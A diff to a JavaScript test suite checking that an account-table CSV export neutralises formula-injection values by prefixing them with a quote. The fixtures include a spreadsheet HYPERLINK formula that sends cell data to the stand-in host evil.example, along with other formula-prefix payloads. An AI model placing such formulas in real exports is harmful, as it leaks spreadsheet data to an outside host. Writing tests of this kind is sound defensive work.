@@ -110,6 +110,7 @@ describe('the account table as CSV', () => {
       '"',
       'a,b',
       '＝1',
+      'b;=1',
     ];
     // The API trims what surrounds a name; ids keep blanks beyond ASCII.
     await giveAccounts(
@@ -118,7 +119,18 @@ describe('the account table as CSV', () => {
     );
     const { cells } = await get('?orderBy=EXTERNAL_CRM_ID', {}, hostile);
     const owners = cells.slice(1).map((row) => row[4]);
-    expect(owners).toEqual(names.map((name) => (/^[=+\-@\t＝]/.test(name) ? `'${name}` : name)));
+    expect(owners).toEqual([
+      `'=HYPERLINK("http://evil.example?"&A1,"ok")`,
+      "'+1",
+      "'-1",
+      "'@x",
+      "a\r\n'=1",
+      "'\t'=1",
+      '"',
+      'a,b',
+      "'＝1",
+      "b;'=1",
+    ]);
     expect(cells.slice(1).map((row) => row[6])).toEqual(names.map((_, index) => String(-index)));
   });
 
